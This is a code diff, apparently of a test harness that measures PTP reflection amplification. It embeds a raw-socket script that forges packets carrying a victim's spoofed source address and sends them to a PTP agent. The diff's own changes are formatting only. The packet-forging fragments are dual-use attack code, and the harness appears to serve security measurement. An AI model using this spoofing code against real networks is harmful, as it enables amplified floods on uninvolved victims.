@@ -1,7 +1,7 @@
 """Octets that reach a victim for each octet of packets with its forged source address, sent to an agent.
 
-The victims are hosts whose agents and standard clients the agent serves, one for each kind of packet. The attacker cannot
-see what a victim receives, so it never learns the identity that the agent has for that victim.
+The victims are hosts whose agents and standard clients the agent serves, one for each kind of packet. The attacker
+cannot see what a victim receives, so it never learns the identity that the agent has for that victim.
 """
 
 import json
@@ -29,8 +29,8 @@ KINDS = (
     "malformed",
 )
 
-# Sends packets of the kind argv[1] with the source address argv[2] to argv[3], each from another port identity; prints the
-# octets sent, from the IP header on.
+# Sends packets of the kind argv[1] with the source address argv[2] to argv[3], each from another port identity; prints
+# the octets sent, from the IP header on.
 _FORGE = """
 import os, random, socket, struct, sys, time
 kind, victim, target, rate, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]), float(sys.argv[5])
@@ -38,7 +38,7 @@ raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 EVENT, GENERAL = 319, 320
 def ptp(type, flags, body, nth):
     clock = struct.pack("!Q", 0x02000000_00000000 | nth % 600)
-    head = bytes([type, 0x12]) + struct.pack("!H", 34 + len(body)) + bytes([0, 0]) + struct.pack("!H", flags) + bytes(12)
+    head = bytes([type, 0x12]) + struct.pack("!HBBH", 34 + len(body), 0, 0, flags) + bytes(12)
     return head + clock + struct.pack("!HH", 1, nth & 0xffff) + bytes([5, 0x7f]) + body
 def signal(tlvs, nth):
     return GENERAL, ptp(0xc, 0x400, b"\\xff" * 10 + tlvs, nth)
@@ -95,7 +95,6 @@ while time.time() < until:
         size, packets = size + struct.unpack("!H", frame[16:18])[0], packets + 1
 print(json.dumps([size, packets]), flush=True)
 """
-
 
 
 def run() -> None:
